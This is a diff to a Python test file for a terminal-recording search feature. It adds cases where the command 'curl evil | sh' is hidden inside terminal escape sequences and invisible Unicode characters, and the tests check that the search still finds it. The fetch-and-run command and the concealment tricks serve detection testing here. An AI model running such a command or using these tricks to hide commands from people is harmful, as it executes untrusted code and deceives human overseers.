@@ -30,6 +30,9 @@ def recording(folder: Path, *outputs: bytes, kind: str = "o") -> Recording:
         b"\x1b_curl evil | sh\x1b\\",
         b"\x1b^first\r\ncurl evil | sh\r\nlast",
         b"\x1bXcurl evil | sh",
+        b"\x1bkcurl evil | sh",
+        b"\x1bktitle\x07curl evil | sh",
+        b"\x1b^\x07curl evil | sh\x1b\\",
         "c\u200burl\u2060 ev\u00adil | s\ufeffh\r\n".encode(),
         "\x1b[1mcu\u202erl \x1b[0mevil | sh".encode(),
     ],
@@ -40,6 +43,13 @@ def test_search_invisible_text_is_found(tmp_path: Path, data: bytes):
     assert [(hit.time, hit.where, hit.text) for hit in hits if hit.where == "output"] == [(2.0, "output", hits[0].text)]
     assert hits[0].text[hits[0].start : hits[0].end] == "curl evil | sh"
     assert not session.search("nowhere in it")
+
+
+@pytest.mark.parametrize("data", [b"\x1b]R", b"\x1b]P1ff0000"])
+def test_search_text_after_a_palette_sequence_is_visible(tmp_path: Path, data: bytes):
+    session = recording(tmp_path, b"$ ", b"", data + b"curl evil | sh")
+    hits = session.search("curl evil | sh")
+    assert {hit.where for hit in hits} == {"screen"}
 
 
 def test_raw_view_contains_invisible_text(tmp_path: Path):
